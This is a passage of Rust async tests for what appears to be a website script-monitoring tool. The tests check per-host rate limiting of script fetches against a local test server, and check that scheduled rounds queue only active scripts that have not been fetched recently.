                    let service = hyper::service::service_fn(move |_req| {
                        let (s, i, m) = (s.clone(), i.clone(), m.clone());
                        async move {
                            s.lock().unwrap().push(Instant::now());
                            let now = i.fetch_add(1, Ordering::SeqCst) + 1;
                            m.fetch_max(now, Ordering::SeqCst);
                            tokio::time::sleep(Duration::from_millis(100)).await;
                            i.fetch_sub(1, Ordering::SeqCst);
                            Ok::<_, Infallible>(Response::new(Full::new(Bytes::from_static(
                                b"window.x = 1;",
                            ))))
                        }
                    });
                    let _ = hyper::server::conn::http1::Builder::new()
                        .serve_connection(TokioIo::new(stream), service)
                        .await;
                });
            }
        });
        let store = Arc::new(SqliteStore::open_in_memory().unwrap());
        let mut options = FetchOptions::default();
        options.allow = vec!["127.0.0.0/8".parse().unwrap()];
        let delay = Duration::from_millis(150);
        let (f, _task) = ScriptFetcher::start(
            Fetcher::new(options).unwrap(),
            Pace {
                interval: Duration::from_secs(3600),
                min_interval: Duration::from_millis(1),
                host_delay: delay,
                concurrency: 4,
                queue: 100,
            },
            vec![("shop".into(), false)],
            store.clone(),
            Arc::new(Pipeline::builder().build()),
            CancellationToken::new(),
        );
        let urls: Vec<String> = (0..4).map(|n| format!("http://{addr}/js/{n}.js")).collect();
        let items: Vec<NewItem> = urls
            .iter()
            .map(|u| NewItem {
                site: "shop".into(),
                kind: ItemKind::Script,
                item: u.clone(),
                page: PAGE.into(),
                first_seen: Timestamp::now(),
            })
            .collect();
        f.new_items(&items);
        for u in &urls {
            versions(&store, u, 1).await;
        }
        assert_eq!(
            most.load(Ordering::SeqCst),
            1,
            "one fetch at a time per host"
        );
        let starts = starts.lock().unwrap().clone();
        assert_eq!(starts.len(), 4);
        for pair in starts.windows(2) {
            // Each request took 100 ms, then the host rested for `delay`.
            assert!(
                pair[1].duration_since(pair[0]) >= Duration::from_millis(100) + delay,
                "{starts:?}"
            );
        }
    }

    #[tokio::test]
    async fn a_scheduled_round_queues_the_active_scripts_not_fetched_lately() {
        let store = Arc::new(SqliteStore::open_in_memory().unwrap());
        let now = Timestamp::now();
        let long_ago = Timestamp::from_unix_millis(now.as_unix_millis() - 30 * 24 * 3600 * 1000);
        let sighting = |kind, item: &str, time| Sighting::new("shop", kind, item, PAGE, None, time);
        store
            .record_sightings(&[
                sighting(ItemKind::Script, "https://cdn.example/due.js", now),
                sighting(ItemKind::Worker, "https://shop.example/worker.js", now),
                sighting(ItemKind::Script, "https://cdn.example/fresh.js", now),
                sighting(ItemKind::Script, "https://cdn.example/gone.js", long_ago),
                sighting(ItemKind::Connection, "https://api.example", now),
                sighting(ItemKind::Inline, PAGE, now),
            ])
            .await
            .unwrap();
        // fresh.js was fetched a minute ago; due.js a day ago.
        for (url, age) in [
            ("https://cdn.example/fresh.js", 60),
            ("https://cdn.example/due.js", 86_400),
        ] {
            store
                .record_script_fetch(&ScriptFetch::new(
                    "shop",
                    url,
                    url,
                    Timestamp::from_unix_millis(now.as_unix_millis() - age * 1000),
                    200,
                    VersionHeaders::default(),
                    None,
                ))
                .await
                .unwrap();
        }
        let (tx, mut rx) = mpsc::channel(16);
        scheduled_round(
            store,
            vec!["shop".into()],
            Duration::from_secs(6 * 3600),
            tx,
        )
        .await;
        let mut queued = Vec::new();
        while let Ok(job) = rx.try_recv() {
            assert_eq!(job.trigger, Trigger::Scheduled);
            assert_eq!(job.page.as_deref(), Some(PAGE));
            queued.push(job.url);
        }
        queued.sort();
        assert_eq!(
            queued,
            [
                "https://cdn.example/due.js",
                "https://shop.example/worker.js"
            ]
        );
    }
}
